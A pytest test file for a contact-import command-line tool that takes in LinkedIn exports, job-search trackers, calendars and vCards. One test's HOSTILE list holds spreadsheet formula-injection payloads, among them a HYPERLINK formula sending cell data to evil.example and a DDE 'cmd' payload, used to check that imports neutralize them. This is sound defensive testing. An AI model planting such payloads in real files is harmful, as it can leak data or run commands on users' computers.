"""A job seeker's flows through `infoview import` (issue 10 importer points, issue 11
row 8): LinkedIn alone gives a folder every command accepts; a hand-kept tracker joins
the same owner; calendar attendees found by name; placeholders stay apart; formula
prefixes neutralized in what people open, read back unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from shared_fixtures import fx

from infoview_analysis.cli.main import main
from infoview_analysis.importers import linkedin as li
from infoview_analysis.importers.merge import merge_people
from infoview_analysis.loading.load import load_log


def run(*args: str) -> object:
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert "Traceback" not in result.output
    return result


def test_linkedin_connections_alone_is_a_folder_every_command_accepts(tmp_path):
    out = tmp_path / "my_network"
    source = fx("linkedin_2024-10_Connections_raw_excerpt.csv")
    r = run("import", "linkedin", source, "--owner", "me", "--out", out)
    assert r.exit_code == 0, r.output
    # 40 rows: 39 people, 1 hidden account left out
    assert "39 contacts, 0 events" in r.output
    assert (out / "events.csv").read_text().strip() == (
        "owner_id,contact_id,date,type,channel,duration_min,notes"
    )
    log = load_log(out)
    assert len(log.contacts) == 39 and len(log.events) == 0
    assert set(log.contacts["owner_id"].astype(str)) == {"me"}
    assert (log.contacts["source"] == "linkedin").all()
    r = run("validate", out)
    assert r.exit_code == 0, r.output
    r = run("graph", "--data", out, "--format", "gexf", "-o", tmp_path / "g.gexf")
    assert r.exit_code == 0, r.output
    assert (tmp_path / "g.gexf").stat().st_size > 0


def _connections(path: Path) -> Path:
    path.write_text(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        "Ana,Ruiz,https://www.linkedin.com/in/ana-ruiz,,Acme Inc.,CTO,06 Feb 2026\n"
        "Bo,Li,https://www.linkedin.com/in/bo-li,,Initech,Engineer,07 Feb 2026\n"
        "Kim,Lee,https://www.linkedin.com/in/kim-lee-1,,Globex,PM,08 Feb 2026\n"
        "Kim,Lee,https://www.linkedin.com/in/kim-lee-2,,Hooli,Designer,09 Feb 2026\n"
    )
    return path


def test_tracker_joins_the_linkedin_owner_and_calendar_finds_attendees_by_name(tmp_path):
    out = tmp_path / "net"
    run("import", "linkedin", _connections(tmp_path / "Connections.csv"), "--out", out)
    tracker = tmp_path / "my tracker.csv"
    tracker.write_text(
        "Name,Company,Email,LinkedIn,How we met,Referred by,Date reached out,Coffee chat date\n"
        "Ana Ruiz,ACME,,,alumni,,2026-02-10,2026-02-14\n"  # name + organization
        "Bo Li,Initech Ltd,bo@x.org,linkedin.com/in/BO-LI/,linkedin,,2026-02-11,\n"  # URL
        "Cy Do,Umbrella,,,friend,Ana Ruiz,2026-02-12,\n"  # new, introduced by Ana
    )
    r = run("import", "tracker", tracker, "--owner", "me", "--out", out)
    assert r.exit_code == 0, r.output
    log = load_log(out)
    assert set(log.contacts["owner_id"].astype(str)) == {"me"}
    contacts = log.contacts.set_index(log.contacts["contact_id"].astype(str))
    assert sorted(contacts.index) == ["ana-ruiz", "bo-li", "cy-do", "kim-lee", "kim-lee-2"]
    assert contacts.loc["bo-li", "email"] == "bo@x.org"
    assert contacts.loc["ana-ruiz", "source"] == "linkedin"  # the first import's source kept
    assert contacts.loc["cy-do", "referred_by"] == "ana-ruiz"
    assert contacts.loc["ana-ruiz", "added_on"] == pd.Timestamp("2026-02-06")
    report = json.loads((out / "merge_report.json").read_text())["report"]
    merged = {row["contact_id"]: row["key"] for row in report if row["action"] == "merged"}
    assert merged == {"ana-ruiz": "name+organization", "bo-li": "linkedin_url"}
    assert sorted(log.events["type"].astype(str)) == ["meeting", "outreach", "outreach", "outreach"]

    cal = tmp_path / "cal.ics"
    cal.write_text(
        "BEGIN:VCALENDAR\r\n"
        "BEGIN:VEVENT\r\nUID:1\r\nSUMMARY:Coffee\r\nDTSTART:20260220T090000Z\r\n"
        "DTEND:20260220T093000Z\r\nATTENDEE;CN=Cy Do:mailto:cy.do@gmail.com\r\nEND:VEVENT\r\n"
        "BEGIN:VEVENT\r\nUID:2\r\nSUMMARY:Chat\r\nDTSTART:20260221T090000Z\r\n"
        "ATTENDEE;CN=Kim Lee:mailto:kim@else.org\r\nEND:VEVENT\r\n"
        "BEGIN:VEVENT\r\nUID:3\r\nSUMMARY:Standup\r\nDTSTART:20260101T090000Z\r\n"
        "RRULE:FREQ=DAILY;COUNT=40\r\nATTENDEE:mailto:team@work.org\r\nEND:VEVENT\r\n"
        "END:VCALENDAR\r\n"
    )
    r = run(
        "import", "ics", cal, "--owner", "me", "--out", out, "--tz", "UTC", "--until", "2026-03-01"
    )
    assert r.exit_code == 0, r.output
    assert (
        "attendee 'Kim Lee' has the name of 2 contacts (kim-lee, kim-lee-2): not guessed"
        in r.output
    )
    assert "1 series (40 occurrences) left out: no attendee" in r.output
    log = load_log(out)
    meetings = log.events[log.events["type"] == "meeting"]
    cy = meetings[meetings["contact_id"].astype(str) == "cy-do"]
    assert cy["date"].tolist() == [pd.Timestamp("2026-02-20 09:00")]
    assert cy["duration_min"].tolist() == [30.0]
    contacts = log.contacts.set_index(log.contacts["contact_id"].astype(str))
    assert contacts.loc["cy-do", "email"] == "cy.do@gmail.com"  # learnt from the calendar
    assert contacts.loc["cy-do", "referred_by"] == "ana-ruiz"  # kept through a re-merge
    assert len(log.contacts) == 5


def test_seventeen_linkedin_members_stay_seventeen_people(tmp_path):
    f = tmp_path / "messages.csv"
    lines = ["CONVERSATION ID,FROM,SENDER PROFILE URL,TO,DATE,CONTENT,FOLDER"]
    for i in range(17):
        lines.append(
            f"c{i},Me Owner,https://www.linkedin.com/in/me,LinkedIn Member,"
            f"2026-01-{i + 1:02d} 10:00:00 UTC,Hello {i},INBOX"
        )
    f.write_text("\n".join(lines) + "\n")
    result = merge_people(li.read_messages(f, owner_name="Me Owner", tz="UTC"), "me")
    assert len(result.contacts) == 17
    assert result.contacts["contact_id"].nunique() == 17
    assert (result.report["action"] != "merged").all()
    assert (
        result.counts[
            "records named by a placeholder (e.g. 'LinkedIn Member'): never merged by name"
        ]
        == 17
    )


HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def test_formula_names_in_a_vcard_are_neutralized_and_read_back_unchanged(tmp_path):
    vcf = tmp_path / "hostile.vcf"
    cards = [
        f"BEGIN:VCARD\nVERSION:3.0\nFN:{name}\nORG:-Evil Corp\nEMAIL:p{i}@x.org\nEND:VCARD"
        for i, name in enumerate(HOSTILE)
    ]
    vcf.write_text("\n".join(cards) + "\n")
    out = tmp_path / "net"
    r = run("import", "vcard", vcf, "--out", out)
    assert r.exit_code == 0, r.output
    with (out / "contacts.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["name"] for row in rows] == ["'" + name for name in HOSTILE]
    assert {row["organization"] for row in rows} == {"'-Evil Corp"}
    for row in rows:  # no text cell a spreadsheet would run
        assert not any(str(v)[:1] in ("=", "+", "-", "@", "\t", "\r") for v in row.values())
    log = load_log(out)
    assert sorted(log.contacts["name"].astype(str)) == sorted(HOSTILE)
    assert set(log.contacts["organization"].astype(str)) == {"-Evil Corp"}
    # importing again reads the folder back: nothing doubled, nothing changed
    before = (out / "contacts.csv").read_bytes()
    assert run("import", "vcard", vcf, "--out", out).exit_code == 0
    assert (out / "contacts.csv").read_bytes() == before


def test_nothing_importable_exits_1_and_writes_nothing(tmp_path):
    f = tmp_path / "Connections.csv"
    f.write_text(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n,,,,,,06 Feb 2026\n"
    )
    out = tmp_path / "net"
    r = run("import", "linkedin", f, "--out", out)
    assert r.exit_code == 1
    assert "no name and no profile URL" in r.output and "nothing imported" in r.output
    assert not out.exists() or not any(out.iterdir())


def test_calendar_dates_keep_their_day(tmp_path):
    # A bare VEVENT (no VCALENDAR) is a calendar too.
    f = fx("ics_vevent_umlaut_organizer.ics")
    out = tmp_path / "net"
    out.mkdir()
    r = run("import", "ics", f, "--out", out, "--until", dt.date(2030, 1, 1).isoformat())
    assert r.exit_code == 1  # nobody known: nothing imported, listed
    assert "left out:" in r.output


@pytest.mark.parametrize("name", ["google_sheets_tracker.csv", "notion_style_tracker.csv"])
def test_imported_tracker_counts_as_the_tracker_itself(tmp_path, name):
    """The import keeps every event, referral and outcome that `load_log` reads."""
    tracker = Path(__file__).parent / "fixtures" / "trackers" / name
    if not tracker.exists():
        pytest.skip(f"{tracker} not there (the loading fixtures)")
    direct = load_log(tracker, owner_id="me")
    out = tmp_path / "net"
    r = run("import", "tracker", tracker, "--owner", "me", "--out", out)
    assert r.exit_code == 0, r.output
    imported = load_log(out)
    assert len(imported.contacts) == len(direct.contacts)
    count = lambda log: log.events["type"].astype(str).value_counts().sort_index().to_dict()  # noqa: E731
    assert count(imported) == count(direct)

    def refs(log) -> list[tuple[str, str]]:
        """(contact name, name of whoever introduced them): ids may be re-slugged."""
        c = log.contacts
        name_of = dict(zip(c["contact_id"].astype(str), c["name"].astype(str), strict=True))
        return sorted(
            (str(n), name_of.get(str(r), str(r)))
            for n, r in zip(c["name"], c["referred_by"].astype(object), strict=True)
        )

    assert refs(imported) == refs(direct)
